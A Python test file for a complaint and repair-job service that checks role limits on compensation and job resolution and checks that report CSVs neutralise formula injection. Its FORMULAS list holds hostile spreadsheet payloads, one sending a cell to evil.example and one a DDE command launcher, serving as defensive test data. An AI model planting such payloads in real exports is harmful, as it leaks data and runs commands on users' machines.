"""Attacks through the commands, with a person's own credentials: an
agent's compensation split over reopenings, a technician closing a
colleague's job, a product or region that runs as a formula in the
report's CSV."""

from __future__ import annotations

import csv
import io
import stat
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from infra.bootstrap import Runtime
from infra.report_files import FORMULA_STARTS, cell, write
from tests.conftest import Client, FakeClock, wait_for

pytestmark = pytest.mark.anyio


async def test_an_agents_compensation_counts_over_every_resolve_of_the_complaint(
        runtime: Runtime, client: Client, clock: FakeClock) -> None:
    """500.00 resolved, reopened and resolved again three times: 1,500.00
    on one complaint without a supervisor."""
    case = (await client.register_complaint())["aggregate_id"]
    assert (await client.command("complaint", "acknowledge", {}, aggregate_id=case))["ok"]
    resolve = {"resolution": "赔偿 (compensated)", "first_contact": True, "compensation": "500.00"}
    assert (await client.command("complaint", "resolve", resolve, aggregate_id=case))["ok"]
    assert (await client.command("complaint", "reopen", {"reason": "客户不满意"}, aggregate_id=case))["ok"]
    again = await client.command("complaint", "resolve", resolve | {"compensation": "0.01"}, aggregate_id=case)
    assert again["error"]["code"] == "forbidden" and "1000.00" not in again["error"]["message"]
    assert "500.01" in again["error"]["message"]
    by_supervisor = await client.command("complaint", "resolve", resolve, aggregate_id=case, role="supervisor")
    assert by_supervisor["ok"], "a supervisor approves more"


async def test_a_technician_does_not_resolve_a_job_sent_to_another(
        runtime: Runtime, client: Client) -> None:
    job = await client.command("repair_job", "register", {
        "customer_id": await client.known_customer(), "kind": "repair", "product_model": "GT06N",
        "fault_description": "终端不上线", "priority": "high", "in_warranty": True, "site_address": "深圳市南山区"})
    job_id = job["aggregate_id"]
    order = {"technician": "li-shifu", "scheduled_at": "2026-11-25T06:00:00Z"}
    assert (await client.command("repair_job", "dispatch", order, aggregate_id=job_id, role="supervisor"))["ok"]
    for command, data in (("diagnose", {"diagnosis": "SIM 卡损坏"}), ("record_parts", {"parts": ["SIM"]}),
                          ("resolve", {"work_done": "换卡"})):
        reply = await client.command("repair_job", command, data, aggregate_id=job_id, role="technician")
        assert reply["error"]["code"] == "forbidden" and "li-shifu" in reply["error"]["message"], (command, reply)
    assert (await client.command("repair_job", "resolve", {"work_done": "换卡"}, aggregate_id=job_id,
                                 role="supervisor"))["ok"]


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)")


async def test_a_value_in_the_reports_csv_never_runs_as_a_formula(
        runtime: Runtime, client: Client, clock: FakeClock, tmp_path: Path) -> None:
    for formula in FORMULAS:
        await client.register_complaint(product=formula, region=formula)

    async def reported() -> dict[str, Any] | None:
        reply = await client.query("report", {"period": "2026-11"})
        return reply if len(reply["top"]["products"]) == len(FORMULAS) else None
    reply = await wait_for(reported)
    assert {r["name"] for r in reply["top"]["products"]} >= set(FORMULAS), "the JSON keeps the value as it is"
    files = write(reply, tmp_path / "reports")
    rows = list(csv.reader(io.StringIO(files[2].read_text(encoding="utf-8"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert {f"'{f}" for f in FORMULAS} <= set(cells)
    for path in files:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert datetime.now(UTC)  # the report was written now, whatever the test clock says


def test_a_cell_starting_with_a_tab_or_a_carriage_return_is_neutralised_too() -> None:
    """The commands strip leading white space from texts; the CSV does not rely on it."""
    assert [cell(v) for v in ("\t=1+1", "\r=1+1", "ok", -0.5, None)] == ["'\t=1+1", "'\r=1+1", "ok", -0.5, ""]
